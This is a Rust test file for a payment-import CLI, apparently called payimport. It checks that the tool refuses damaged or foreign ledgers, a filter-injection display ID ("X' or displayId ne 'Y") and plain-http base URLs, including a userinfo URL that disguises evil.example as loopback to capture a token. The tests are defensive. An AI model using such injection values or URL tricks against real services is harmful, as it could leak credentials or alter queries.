#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_ledger_with_a_damaged_page_is_refused() {
    let env = env_with_ledger(3000).await;
    let mut bytes = std::fs::read(env.ledger()).unwrap();
    // Overwrite the pages in the middle (row data and index pages) with noise.
    let mid = bytes.len() / 2 / 4096 * 4096;
    for (i, b) in bytes[mid..mid + 3 * 4096].iter_mut().enumerate() {
        *b = (i as u32).wrapping_mul(2_654_435_761).to_be_bytes()[0];
    }
    std::fs::write(env.ledger(), &bytes).unwrap();
    // Runs that write check every page first; `report` and `runs` read only what they need,
    // and SQLite refuses a damaged page when they reach it.
    assert_ledger_refused(&env, &["import", "retry"], "is damaged").await;
    let r = env.run(&["report"]).await;
    assert_eq!(r.code, 2, "{}\n{}", r.stdout, r.stderr);
    assert!(r.stderr.contains("malformed"), "{}", r.stderr);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sqlite_file_that_is_not_a_ledger_is_refused() {
    let env = Env::new().await;
    let conn = rusqlite::Connection::open(env.ledger()).unwrap();
    conn.execute_batch("CREATE TABLE customers (id INTEGER PRIMARY KEY, name TEXT); INSERT INTO customers (name) VALUES ('someone');")
        .unwrap();
    drop(conn);
    assert_ledger_refused(
        &env,
        ALL,
        "is not a payimport ledger: it is a SQLite database of other tables (customers)",
    )
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_unidentified_display_id_names_the_field_like_other_rejections() {
    let env = Env::new().await;
    env.add_settings(SOURCES);
    env.fixture("bad/lockbox/display_id_injection.lbx");
    let r = env
        .run(&["import", "--source", "lockbox", "display_id_injection.lbx"])
        .await;
    assert_eq!(r.code, 1, "{}\n{}", r.stdout, r.stderr);
    let rows = env.report(&[]).await;
    let row = rows.iter().find(|r| r.get("line") == "5").unwrap();
    assert!(
        row.get("message")
            .starts_with("field `loan` value \"X' or displayId ne 'Y\": "),
        "{row:?}"
    );
}

// ---------------------------------------------------------------------------------------------
// Clear text: plain http only to loopback, for the settings and the sandbox alike.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn plain_http_to_another_host_is_refused_before_anything_is_sent() {
    let env = Env::new().await;
    let file = env.write("bank.csv", &valid_csv(2));
    let text = std::fs::read_to_string(&env.settings).unwrap();
    let base = env.sandbox.base_url();
    assert!(text.contains(&base));
    for url in [
        "http://loanpro.simnang.com/api/public/api/1",
        "http://10.0.0.8:8080/api",
        "HTTP://loanpro.simnang.com/api",
        "http://127.0.0.1:1@loanpro.simnang.com/api",
        "ftp://127.0.0.1/api",
    ] {
        std::fs::write(&env.settings, text.replace(&base, url)).unwrap();
        let r = env.run(&["import", file.to_str().unwrap()]).await;
        assert_eq!(r.code, 2, "{url}: {}\n{}", r.stdout, r.stderr);
        assert!(
            r.stderr.contains("`loanpro.base_url`"),
            "{url}: {}",
            r.stderr
        );
        assert!(!env.ledger().exists(), "{url}: nothing written");
    }
    assert_eq!(env.sandbox.stats().puts + env.sandbox.stats().gets, 0);
}

#[test]
fn plain_http_with_a_loopback_userinfo_is_refused() {
    // The URL crate that reqwest uses sends this to evil.example, with the token in clear text.
    let url = "http://127.0.0.1:1@evil.example/api";
    assert_eq!(
        reqwest::Url::parse(url).unwrap().host_str(),
        Some("evil.example")
    );
    let text = format!(
        "[loanpro]\nbase_url = {url:?}\ntenant_id = \"1\"\n[payments]\npayment_methods = {{ 4 = \"Check\" }}\npayment_types = {{ 1 = \"Regular\" }}\nextra = [\"payment.extra.tx.principal\"]\ndefault_payment_method_id = 4\ndefault_payment_type_id = 1\ndefault_extra = \"payment.extra.tx.principal\"\n[sources.bank]\nformat = \"csv\"\n"
    );
    let loaded = payimport::settings::Settings::from_toml(&text, Path::new("s.toml"));
    assert!(
        loaded.is_err(),
        "{url} is accepted as a loopback URL, but its host is evil.example"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_sandbox_refuses_a_non_loopback_address_unless_told() {
    let env = Env::new().await;
    let r = env.run(&["sandbox", "--listen", "0.0.0.0:0"]).await;
    assert_eq!(r.code, 2, "{}\n{}", r.stdout, r.stderr);
    assert!(
        r.stderr
            .contains("refusing to listen on non-loopback address 0.0.0.0:0"),
        "{}",
        r.stderr
    );
}
